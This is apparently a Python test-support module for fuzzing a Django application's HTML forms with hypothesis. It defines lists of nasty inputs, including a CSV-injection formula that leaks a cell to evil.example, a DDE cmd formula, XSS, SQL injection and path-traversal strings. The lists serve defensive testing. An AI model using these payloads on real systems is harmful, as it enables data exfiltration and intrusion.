"""What the fuzzing tests share: nasty values, the fields of a page's real HTML form, the database fingerprint, and
hypothesis settings that reproduce (``derandomize``) unless ``WUSHAN_FUZZ_EXPLORE=1`` asks for fresh examples."""

import hashlib
import os
from html.parser import HTMLParser

from django.apps import apps
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

from core import validators as limits

EXPLORE = os.environ.get("WUSHAN_FUZZ_EXPLORE") == "1"


def fuzz_settings(max_examples=25):
    """Moderate example counts, no deadline (the first request of a page warms caches), reproducible in CI."""
    return settings(
        max_examples=max_examples * (4 if EXPLORE else 1),
        deadline=None,
        derandomize=not EXPLORE,
        database=None,
        # Shrinking a failure through real requests takes minutes: report the example as found (explore mode shrinks).
        phases=None if EXPLORE else [Phase.explicit, Phase.reuse, Phase.generate],
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large],
    )


WATCHED_APPS = ("accounts", "targets", "projects", "scoring", "reports")


def fingerprint() -> str:
    """A hash of every row of the business tables (not the audit trail, which records refusals and attempts)."""
    digest = hashlib.sha256()
    for model in apps.get_models():
        if model._meta.app_label in WATCHED_APPS and not model._meta.proxy:
            fields = [f.attname for f in model._meta.concrete_fields if f.attname != "last_login"]
            for row in model.objects.order_by("pk").values_list(*fields):
                digest.update(repr(row).encode())
    return digest.hexdigest()


# --- values --------------------------------------------------------------------------------------------------------

# Control characters other than tab and line feed (refused at input), spreadsheet formulas and the prefixes OWASP's
# CSV-injection rule neutralises (stored as text, written to exports as text), one character past each text limit.
CONTROL_TEXT = ["a\x0bb", "\x1b[31m红\x1b[0m", "a\x7fb", "a\x85b", "行\r回车", "\x0c", "名\x1f称"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&C5,"点击查看项目")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
TEXT_LIMITS = (
    40, 50, 100, 150, limits.NAME_MAX, limits.SHORT_NOTE_MAX, limits.REASON_MAX, limits.NOTE_MAX, limits.LONG_TEXT_MAX
)  # fmt: skip
OVER_LIMIT = ["字" * (n + 1) for n in TEXT_LIMITS]

NASTY = [
    "",
    " ",
    "0",
    "-1",
    "-0.0001",
    "0.00000000000000000001",
    "1e309",
    "-1e309",
    "9" * 40,
    "-" + "9" * 30,
    "99999999999999999999.99999999",
    "NaN",
    "nan",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1,000",
    "１２３",
    "一百",
    "壹亿元",
    "5亿",
    "2023-02-30",
    "2023-13-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "99999-01-01",
    "2023-6",
    "2023-00",
    "2023/06/20",
    "20230620",
    "2023年6月",
    "None",
    "null",
    "true",
    "on",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "a\x00b",
    "\x00",
    "字" * 3000,
    "x" * 20000,
    "\u202e反转",
    "😀",
    "%s%n{0}",
    "../../etc/passwd",
    "{{ 7|add:7 }}",
    "县交通局:100;县文化旅游委:50",
    "contract:1:1",
    "funds:999999:1",
    *CONTROL_TEXT,
    *FORMULAS,
    *OVER_LIMIT,
]

CHINESE = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
TEXT = st.text(alphabet=st.one_of(CHINESE, st.characters(codec="utf-8")), max_size=40)
NUMBER_TEXT = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.decimals(allow_nan=True, allow_infinity=True, places=None).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)
DATE_TEXT = st.one_of(
    st.dates().map(str),
    st.tuples(st.integers(-10, 99999), st.integers(-1, 14), st.integers(-1, 40)).map(
        lambda t: f"{t[0]}-{t[1]:02d}-{t[2]:02d}"
    ),
    st.tuples(st.integers(0, 9999), st.integers(-1, 14)).map(lambda t: f"{t[0]}-{t[1]:02d}"),
)
NASTY_VALUE = st.one_of(st.sampled_from(NASTY), TEXT, NUMBER_TEXT, DATE_TEXT)

EXTENSIONS = [".pdf", ".xlsx", ".xls", ".csv", ".png", ".jpg", ".ofd", ".exe", ".html", ".svg", ".zip", "", ".PDF"]
MAGIC = [
    b"",
    b"%PDF-1.4\n",
    b"PK\x03\x04",
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff\xe0",
    b"MZ",
    b"<html>",
    b"\xef\xbb\xbf",
]
FILE = st.tuples(
    st.one_of(
        st.just("文件"), st.text(alphabet=CHINESE, min_size=1, max_size=8), st.just("../../x"), st.just("a" * 300)
    ),
    st.sampled_from(EXTENSIONS),
    st.sampled_from(MAGIC),
    st.binary(max_size=2048),
)


# --- the page's form -------------------------------------------------------------------------------------------------


class _Forms(HTMLParser):
    """Every <form> of a page with its fields: name → (kind, default value, choices)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms, self._form, self._select, self._textarea = [], None, None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._form = {"action": a.get("action") or "", "method": (a.get("method") or "get").lower(), "fields": {}}
            self.forms.append(self._form)
        elif self._form is None:
            return
        elif tag == "input" and a.get("name"):
            kind = (a.get("type") or "text").lower()
            if kind in ("submit", "button", "reset", "image"):
                self._form["fields"].setdefault(a["name"], ("submit", a.get("value", ""), []))
                return
            field = self._form["fields"].setdefault(a["name"], (kind, "", []))
            if kind in ("checkbox", "radio"):
                field[2].append(a.get("value", "on"))
                if "checked" in a:
                    self._form["fields"][a["name"]] = (kind, a.get("value", "on"), field[2])
            else:
                self._form["fields"][a["name"]] = (kind, a.get("value", ""), [])
        elif tag == "select" and a.get("name"):
            self._select = a["name"]
            self._form["fields"][a["name"]] = ("select-multiple" if "multiple" in a else "select", "", [])
        elif tag == "option" and self._select:
            self._form["fields"][self._select][2].append(a.get("value", ""))
        elif tag == "textarea" and a.get("name"):
            self._textarea = a["name"]
            self._form["fields"][a["name"]] = ("textarea", "", [])

    def handle_data(self, data):
        if self._textarea and self._form is not None:
            kind, value, choices = self._form["fields"][self._textarea]
            self._form["fields"][self._textarea] = (kind, value + data, choices)

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


def form_fields(html: str, action: str) -> dict:
    """The fields of the page's POST form that posts to ``action`` (a form without an action posts to its page)."""
    parser = _Forms()
    parser.feed(html)
    forms = [f for f in parser.forms if f["method"] == "post" and f["action"] in ("", action)]
    assert forms, f"页面上没有提交到 {action} 的表单"
    fields = {}
    for found in forms:
        fields.update(found["fields"])
    return fields


def field_value(kind, default, choices):
    """A strategy for one field: mostly its honest value or choice, often something nasty, sometimes left out."""
    honest = [st.just(default)] if default else []
    if kind in ("select", "radio") and choices:
        honest.append(st.sampled_from(choices))
    if kind == "select-multiple" and choices:
        honest.append(st.lists(st.sampled_from(choices), max_size=3, unique=True))
    if kind == "checkbox":
        honest.append(st.sampled_from(choices or ["on"]))
    if kind == "file":
        return st.one_of(st.none(), FILE)
    if kind == "submit":
        return st.one_of(st.none(), st.just(default))
    if kind == "hidden" and default:  # tokens and the like: mostly kept, so the form gets past them
        return st.one_of(st.just(default), st.just(default), st.just(default), NASTY_VALUE, st.none())
    return st.one_of(*honest, NASTY_VALUE, st.lists(NASTY_VALUE, min_size=2, max_size=3), st.none())


def post_data(fields: dict):
    return st.fixed_dictionaries({name: field_value(*spec) for name, spec in fields.items()})


def encode(data: dict) -> dict:
    """Generated values as the test client posts them: files as uploads, None left out."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    out = {}
    for name, value in data.items():
        if value is None:
            continue
        if isinstance(value, tuple):
            stem, ext, magic, body = value
            out[name] = SimpleUploadedFile(stem + ext, magic + body, content_type="application/octet-stream")
        else:
            out[name] = value
    return out


# Values every form gets in every free field at once, deterministically, besides the generated examples: the ones that
# broke something once (NUL in PostgreSQL text and jsonb, ids and amounts beyond every range, impossible dates, dates
# before the earliest year, control characters in an export, formulas, text one past its limit).
KILLERS = [
    "a\x00b", "9" * 40, "1e309", "NaN", "-1", "2023-02-30", "字" * 3000, "", "0",
    "0001-01-01", "1999-12", "a\x0bb", "行\r回车", FORMULAS[0], "@SUM(A1:A9)", "\t=1+1",
    "字" * (limits.NAME_MAX + 1), "字" * (limits.NOTE_MAX + 1),
]  # fmt: skip


def uniform_payloads(fields: dict):
    """For each killer value: the form with every field that is not a hidden token, a file or a button set to it."""
    for value in KILLERS:
        data = {}
        for name, (kind, default, _choices) in fields.items():
            if kind == "submit" or kind == "file":
                continue
            data[name] = default if kind == "hidden" and default else value
        yield value, data
